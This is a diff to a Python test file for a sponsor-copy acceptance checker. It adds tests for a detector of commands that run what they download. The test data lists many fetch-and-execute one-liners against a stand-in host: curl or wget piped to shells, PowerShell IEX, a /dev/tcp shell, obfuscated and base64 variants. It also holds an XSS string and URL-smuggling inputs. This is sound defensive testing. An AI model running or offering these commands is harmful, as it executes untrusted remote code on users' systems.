@@ -1,11 +1,14 @@
 import pytest
 
+from articles.tests.attacks import ATTACKS
 from sponsors.acceptance import (
     copy_fault,
+    has_figure,
     hook_fault,
     hooks_fault,
     hosts_fault,
     link_fault,
+    runs_what_it_downloads,
     terminal_fault,
 )
 
@@ -31,6 +34,17 @@ def test_html_is_refused(text):
     assert "HTML is not taken" in copy_fault(text)
 
 
+# Without an angle bracket or an entity there is nothing to take for HTML.
+PLAIN_ATTACKS = {"＜script＞alert(1)＜/script＞"}
+
+
+@pytest.mark.parametrize("attack", [each for each in ATTACKS if each not in PLAIN_ATTACKS])
+def test_no_known_attack_is_taken_as_copy(attack):
+    assert copy_fault(attack, lines=True)
+    assert hook_fault(attack)
+    assert terminal_fault(attack, lines=True)
+
+
 @pytest.mark.parametrize(
     "text", ["a\x00b", "a\nb", "a\x1b[2Jb", "a\u202eb", "a\u2067b", "a\u2028b"]
 )
@@ -53,6 +67,79 @@ def test_a_command_holds_nothing_unseen(character):
 @pytest.mark.parametrize("command", ["git push fly main", "cat < a | sort > b", "größe --all 'ü'"])
 def test_an_honest_command_is_taken(command):
     assert terminal_fault(command) == ""
+
+
+RUN_UNREAD = r"""
+curl -fsSL https://a.example/i.sh | sh
+curl a.example/i | bash -s -- -y
+curl a.example | /bin/sh
+curl a.example | env X=1 zsh
+curl a.example | $SHELL
+curl a.example | tee kept | sh
+curl a.example | crontab -
+curl -o i.sh a.example && sh i.sh
+curl -o /tmp/x a.example; /tmp/x
+curl -O a.example/tool; chmod +x tool
+wget -qO- a.example | sudo bash
+wget -O - a.example|python3.12
+wget a.example/x && ./x
+bash <(curl -s a.example/x)
+sh<(curl a.example)
+source <(curl a.example)
+. <(curl a.example)
+sh -c "$(curl -fsSL a.example)"
+sh -c "`wget -qO- a.example`"
+eval "$(curl a.example)"
+iex (irm a.example)
+irm a.example | iex
+IEX ((New-Object Net.WebClient).DownloadString('https://a.example'))
+powershell -c "iwr https://a.example | iex"
+c''url a.example | s"h"
+cu\rl a.example | b\ash
+python3 -c "import urllib.request as u; exec(u.urlopen('https://a.example').read())"
+deno run https://a.example/x.ts
+node -e "fetch('https://a.example').then(eval)"
+exec 3<>/dev/tcp/a.example/80; sh <&3
+echo Y3VybA== | base64 -d | sh
+git clone https://a.example/x && bash x/setup
+mshta https://a.example/x.hta
+npx https://a.example/x
+""".strip().splitlines()
+RUN_WHAT_IS_THERE = r"""
+overwinter push ~/projects
+overwinter push https://a.example
+overwinter keep ./work
+curl https://a.example/plans.json
+curl -s a.example/plans | jq .
+curl -sS https://a.example/install.sh
+curl -O https://a.example/python.tar.gz
+curl -T ./notes.txt https://a.example/in
+wget a.example/bash-completion.txt
+git clone https://code.a.example/firmware && make -C firmware
+git push fly main
+python3 push.py ./photos
+sh backup.sh
+ssh you@box.example
+pip install overwinter
+dig +short MX your-name.example
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("command", RUN_UNREAD)
+def test_a_command_that_runs_what_it_downloads_is_known(command):
+    assert runs_what_it_downloads(command)
+    assert terminal_fault(command) == ""
+
+
+@pytest.mark.parametrize("command", RUN_WHAT_IS_THERE)
+def test_other_commands_are_not_taken_for_it(command):
+    assert not runs_what_it_downloads(command)
+
+
+@pytest.mark.parametrize("text", ["10 GB", "½ price", "²", "٣ شهور", "Ⅳ"])
+def test_a_figure_is_a_digit_of_any_script(text):
+    assert has_figure("free", text)
+    assert not has_figure("ten gigabytes", "", "一般")
 
 
 @pytest.mark.parametrize("hook", ["", "reading about {topic}?", "cold", "{topic} and {topic}"])
@@ -107,6 +194,14 @@ def test_a_link_to_the_sponsors_host_is_taken(link):
         " https://overwinter.example/",
         "https://overwinter.example/\n",
         'https://overwinter.example/"onclick="x',
+        "https://overwinter.example/%0d%0a\x0d",
+        "https://overwinter.example%2eevil.example/",
+        "https://overwinter.example\t/",
+        "https:///overwinter.example/",
+        "https:\\\\overwinter.example/",
+        "https://[::1]/",
+        "https://overwintér.example/",
+        "https://overwinter.example/`",
     ],
 )
 def test_an_address_that_two_readers_could_read_differently_is_refused(link):
@@ -126,6 +221,11 @@ def test_a_link_off_the_sponsors_hosts_is_refused_by_name(host):
 )
 def test_a_host_is_a_name_in_lower_case(host):
     assert "is no host" in hosts_fault([host])
+
+
+def test_a_host_of_another_script_is_listed_as_the_network_knows_it():
+    assert hosts_fault(["xn--berwinter-85a.example"]) == ""
+    assert link_fault("https://xn--berwinter-85a.example/", ["xn--berwinter-85a.example"]) == ""
 
 
 def test_hosts_are_a_list():
